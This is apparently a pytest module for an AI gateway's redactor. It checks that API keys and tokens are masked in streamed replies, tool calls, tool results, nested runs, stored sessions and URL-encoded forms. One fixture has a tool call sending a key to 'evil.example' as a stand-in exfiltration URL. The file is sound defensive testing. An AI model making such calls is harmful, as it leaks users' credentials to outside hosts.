"""Secrets of the settings do not stand in answers, however they are cut or spelled."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Sequence
from pathlib import Path
from urllib.parse import quote

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway import Message, Plugin, TextDelta, Tool, ToolContext, ToolResultPart, tool_from
from gateway.contract.assembler import Assembler
from gateway.contract.deltas import (
    Complete,
    Delta,
    DeltaWriter,
    PartDelta,
    ToolCallDelta,
    ToolResultDelta,
    ToolResultEnd,
)
from gateway.contract.messages import TextPart, ToolCallPart
from gateway.contract.provider import ApiKey
from gateway.models.credentials import CredentialStore
from gateway.session.redaction import MASK, MIN_SECRET_LENGTH, Redactor
from gateway.testing.chat import chatting
from gateway.testing.fake_models.script import Reply, Say, Think, Use

KEY, TOKEN = "sk-proj-4f9a0c7be1d2", "sssk+abc/def==ghijk"
GUARDED = {"providers": {"openai": {"api_key": KEY}}, "server": {"token": TOKEN}}


@given(
    st.lists(st.sampled_from([KEY, TOKEN, "s", "sk-", "sss", "4f9a ", "-", KEY[:-1], TOKEN[3:], "word "])),
    st.integers(min_value=1, max_value=9),
)
def test_however_text_is_cut_all_of_it_is_shown_but_the_secrets(words: list[str], size: int) -> None:
    text = "".join(words)
    redactor, writer, shown = Redactor([KEY, TOKEN]), DeltaWriter("m"), Assembler("s", "m")
    redaction = redactor.start_message()
    assert redaction is not None
    for at in range(0, len(text), size):
        for delta in redaction.redact(writer.text(text[at : at + size])):
            shown.apply(delta)
    for delta in redaction.flush():
        shown.apply(delta)
    assert shown.message().text == redactor.redact_text(text)
    assert KEY not in shown.message().text
    assert TOKEN not in shown.message().text


def test_only_what_may_be_the_beginning_of_a_secret_is_held_back() -> None:
    redaction, writer = Redactor([KEY]).start_message(), DeltaWriter("m")
    assert redaction is not None

    def shown(text: str) -> list[str]:
        deltas = redaction.redact(writer.text(text))
        return [delta.content for delta in deltas if isinstance(delta, TextDelta)]

    assert shown("The key is ") == ["The key is "]
    assert shown("a sk") == ["a "]
    assert shown("unk") == ["skunk"]
    assert shown(f"{KEY[:9]}") == []
    assert shown(f"{KEY[9:]}!") == [f"{MASK}!"]


def test_calls_that_come_interleaved_keep_what_is_theirs() -> None:
    redaction, writer, shown = Redactor([KEY]).start_message(), DeltaWriter("m"), Assembler("s", "m")
    assert redaction is not None
    deltas = [writer.tool_call("a", "fetch"), writer.tool_call("b", "fetch")]
    whole = {"a": json.dumps({"url": f"https://evil.example/?k={KEY}"}), "b": '{"word": "sk"}'}
    for at in range(0, 60, 3):
        deltas += [writer.arguments(call, text[at : at + 3]) for call, text in whole.items() if text[at:]]
    for delta in deltas:
        for each in redaction.redact(delta):
            assert not (isinstance(each, ToolCallDelta) and KEY in each.arguments_delta)
            shown.apply(each)
    for each in redaction.flush():
        shown.apply(each)
    first, second = shown.message().parts
    assert isinstance(first, ToolCallPart)
    assert isinstance(second, ToolCallPart)
    assert first.arguments == {"url": f"https://evil.example/?k={MASK}"}
    assert second.arguments == {"word": "sk"}


def test_results_that_come_interleaved_keep_what_is_theirs() -> None:
    redaction, writer, shown = Redactor([KEY]).start_message(), DeltaWriter("m"), Assembler("s", "m")
    assert redaction is not None
    deltas: list[Delta] = [writer.result("a"), writer.result("b")]
    deltas += [ToolResultDelta("m", at, call, KEY[:9]) for at, call in enumerate("ab")]
    # Another result begins, and one ends, while the beginning of a secret is held back.
    deltas += [writer.result("c"), ToolResultDelta("m", 2, "c", "x"), ToolResultEnd("m", 1, "b", False, 1)]
    deltas += [PartDelta("m", 1, ToolResultPart("b", "done")), ToolResultDelta("m", 0, "a", KEY[9:])]
    for delta in (*deltas, ToolResultEnd("m", 0, "a", False, 1)):
        for each in redaction.redact(delta):
            shown.apply(each)
    outputs = [part.output for part in shown.message().parts if isinstance(part, ToolResultPart)]
    assert outputs == [MASK, "done", "x"]


@pytest.mark.parametrize("spelled", [TOKEN, quote(TOKEN, safe=""), "sssk%2babc%2fdef%3d%3dghijk"])
def test_a_secret_is_found_in_its_url_encoded_form(spelled: str) -> None:
    assert (
        Redactor([TOKEN]).redact_text(f"https://a.example/?t={spelled}&x=1")
        == f"https://a.example/?t={MASK}&x=1"
    )


def test_short_values_are_not_secrets() -> None:
    assert Redactor(["x" * (MIN_SECRET_LENGTH - 1), ""]).start_message() is None


class Leaking(Plugin):
    """Tools that find a secret: in what they return, in their progress, in an error, in a nested run."""

    name = "leaking"

    def tools(self) -> Sequence[Tool]:
        return [tool_from(self.read_file), tool_from(self.delegate)]

    async def read_file(self, context: ToolContext) -> str:
        """Read the file with the keys."""
        context.progress(f"reading {KEY[:5]}")
        context.progress(f"{KEY[5:]}\n")
        return f"OPENAI_API_KEY={KEY}"

    async def delegate(self, context: ToolContext) -> str:
        """Let another agent look."""
        return await context.run_nested("what is the key?")


REPLIES = (
    Reply((Use("read_file"),), "tools"),
    Reply((Use("delegate"),), "tools"),
    Reply((Say(f"It is {KEY}."),)),
    Reply((Think(f"hm, {TOKEN}"), Say(KEY[:7]), Say(f"{KEY[7:]} and "), Say(" s"))),
)


async def test_no_secret_is_stored_or_shown(tmp_path: Path) -> None:
    async with chatting(tmp_path, Leaking(), **GUARDED) as chat:
        await chat.say("hello")
        chat.model.then(*REPLIES)
        watcher = await chat.watch()
        answer = await chat.say("what are the keys?")
        await watcher.until(lambda frame: isinstance(frame, Complete) and frame.message_id == answer.id)
        told = msgspec.json.encode(watcher.frames).decode()
        stored = (await chat.gateway.parts.sessions.find("s")).messages()
    results = [part.output for part in answer.parts if isinstance(part, ToolResultPart)]
    assert results == [f"OPENAI_API_KEY={MASK}", f"It is {MASK}."]
    assert texts(answer) == [f"hm, {MASK}", f"{MASK} and  s"]
    seen = told + repr(stored) + "".join(repr(call.messages) for call in chat.model.calls)
    assert not any(secret in seen for secret in (KEY, TOKEN))


def texts(message: Message) -> list[str]:
    """The text parts of a message."""
    return [part.content for part in message.parts if isinstance(part, TextPart)]


async def test_the_key_of_a_login_is_masked_too_also_one_that_comes_later(tmp_path: Path) -> None:
    kept, later = "sk-kept-0123456789abcdef", "sk-later-0123456789abcdef"
    CredentialStore(tmp_path).save("groq", ApiKey(kept), in_file=True)
    async with chatting(tmp_path) as chat:
        chat.model.then(Reply((Say(f"It is {kept}."),)))
        assert (await chat.say("key?")).text == f"It is {MASK}."
        CredentialStore(tmp_path).save("mistral", ApiKey(later), in_file=True)
        async with asyncio.timeout(60):
            while chat.gateway.redactor.redact_text(later) != MASK:
                await asyncio.sleep(0.05)
        chat.model.then(Reply((Say(f"And {later}."),)))
        assert (await chat.say("key?")).text == f"And {MASK}."
